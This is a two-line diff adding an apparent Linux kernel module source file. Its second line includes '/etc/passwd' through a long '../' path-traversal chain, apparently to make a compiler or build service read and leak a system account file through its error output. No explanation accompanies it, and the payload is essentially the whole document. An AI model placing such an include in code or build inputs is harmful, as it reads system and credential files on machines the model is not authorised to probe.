@@ -1,0 +1,2 @@
+#include <linux/module.h>
+#include "../../../../../../../../etc/passwd"
